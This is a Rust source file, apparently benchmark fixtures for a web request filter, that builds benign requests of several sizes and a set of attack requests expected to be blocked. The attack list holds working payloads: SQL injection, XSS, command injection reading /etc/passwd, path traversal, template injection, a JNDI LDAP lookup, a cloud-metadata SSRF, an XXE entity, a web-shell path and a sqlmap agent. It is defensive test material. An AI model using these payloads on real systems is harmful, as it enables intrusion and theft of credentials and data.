//! The classes of Checks that are measured: each kind of benign body in several sizes, and an attack of each kind.

use std::fmt::Write as _;

use agent_stub::decision::Verdict;

use super::messages::{Difference, encoded};

/// Checks that cost the same.
#[derive(Debug)]
pub(crate) struct Class {
    /// The class's name.
    pub(crate) name: &'static str,
    /// Its Check, encoded.
    pub(crate) check: Vec<u8>,
    /// What is decided about it.
    pub(crate) verdict: Verdict,
}

/// Returns every class.
pub(crate) fn all() -> Vec<Class> {
    let classes = |verdict, requests: Vec<(&'static str, Difference)>| {
        requests.into_iter().map(move |(name, request)| Class {
            name,
            check: encoded(request),
            verdict,
        })
    };
    classes(Verdict::Allow, benign())
        .chain(classes(Verdict::Block, attacks()))
        .collect()
}

fn benign() -> Vec<(&'static str, Difference)> {
    vec![
        (
            "benign-get",
            get("/catalogue/shoes/41?colour=dark+blue&size=43&sort=price"),
        ),
        ("benign-get-short", get("/")),
        ("benign-json-1-kib", post("application/json", json(1))),
        ("benign-json-8-kib", post("application/json", json(8))),
        ("benign-json-64-kib", post("application/json", json(64))),
        ("benign-form-1-kib", post(FORM, form(1))),
        ("benign-form-64-kib", post(FORM, form(64))),
        ("benign-text-64-kib", post("text/plain", prose(64))),
        ("benign-xml-8-kib", post("application/xml", xml(8))),
        (
            "benign-multipart-8-kib",
            post("multipart/form-data; boundary=xyz", multipart(8)),
        ),
        (
            "benign-binary-64-kib",
            post("application/octet-stream", prose(64)),
        ),
    ]
}

fn attacks() -> Vec<(&'static str, Difference)> {
    let document =
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
    vec![
        (
            "sqli-query",
            get("/items?id=1%27%20UNION%20SELECT%20name%2C%20secret%20FROM%20accounts--"),
        ),
        (
            "sqli-form",
            post(FORM, "user=admin%27+OR+%271%27%3D%271&password=x".into()),
        ),
        (
            "xss-query",
            get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        ),
        (
            "command-query",
            get("/ping?host=192.0.2.1%3Bcat%20/etc/passwd"),
        ),
        ("traversal-path", get("/static/..%2f..%2f..%2fetc%2fpasswd")),
        ("code-query", get("/page?template=%7B%7B7*7%7D%7D")),
        (
            "jndi-header",
            Difference {
                headers: vec![("x-api-version", "${jndi:ldap://192.0.2.66/a}")],
                ..get("/")
            },
        ),
        (
            "metadata-query",
            get("/fetch?url=http://169.254.169.254/latest/meta-data/"),
        ),
        ("xxe-body", post("application/xml", document.into())),
        ("backdoor-path", get("/uploads/c99.php")),
        (
            "tool-agent",
            Difference {
                user_agent: Some("sqlmap/1.8#stable (https://sqlmap.org)"),
                ..get("/")
            },
        ),
        ("null-byte-query", get("/download?file=report.pdf%00.png")),
    ]
}

fn get(target: &str) -> Difference {
    Difference {
        target: target.into(),
        ..Difference::default()
    }
}

fn post(content_type: &'static str, body: String) -> Difference {
    Difference {
        content_type: Some(content_type),
        body: body.into_bytes(),
        ..get("/api/orders")
    }
}

fn json(kibibytes: usize) -> String {
    let orders = until(kibibytes, |number, orders| {
        let separator = if number == 0 { "" } else { "," };
        let note = SENTENCES[number % SENTENCES.len()];
        write!(
            orders,
            "{separator}{{\"order\":{number},\"customer\":\"Ada Lovelace\",\"email\":\"ada@example.com\",\"paid\":true,\"note\":\"{note}\"}}"
        )
    });
    format!("[{orders}]")
}

fn form(kibibytes: usize) -> String {
    until(kibibytes, |number, fields| {
        let note = SENTENCES[number % SENTENCES.len()]
            .replace(',', "%2C")
            .replace(' ', "+");
        let separator = if number == 0 { "" } else { "&" };
        write!(
            fields,
            "{separator}name{number}=Ada+Lovelace&email=ada%40example.com&note={note}"
        )
    })
}

fn prose(kibibytes: usize) -> String {
    until(kibibytes, |number, text| {
        writeln!(text, "{}", SENTENCES[number % SENTENCES.len()])
    })
}

fn xml(kibibytes: usize) -> String {
    let orders = until(kibibytes, |number, orders| {
        let note = SENTENCES[number % SENTENCES.len()];
        write!(
            orders,
            "<order number=\"{number}\"><note>{note}</note></order>"
        )
    });
    format!("<?xml version=\"1.0\"?><orders>{orders}</orders>")
}

fn multipart(kibibytes: usize) -> String {
    let parts = until(kibibytes, |number, parts| {
        let note = SENTENCES[number % SENTENCES.len()];
        write!(
            parts,
            "--xyz\r\nContent-Disposition: form-data; name=\"note{number}\"\r\n\r\n{note}\r\n"
        )
    });
    format!("{parts}--xyz--\r\n")
}

// Adds items until a text is long enough.
fn until(kibibytes: usize, add: impl Fn(usize, &mut String) -> std::fmt::Result) -> String {
    let mut text = String::new();
    for number in 0.. {
        if text.len() >= kibibytes * 1024 {
            break;
        }
        add(number, &mut text).expect("writing to memory");
    }
    text
}

const FORM: &str = "application/x-www-form-urlencoded";
const SENTENCES: &[&str] = &[
    "please leave the parcel with the neighbour, second floor",
    "The colour differs a little from the picture.",
    "3 pairs, sizes 41 to 43; no hurry at all",
    "wrapped as a present",
    "call 555-0199 before delivery - the bell is broken",
];
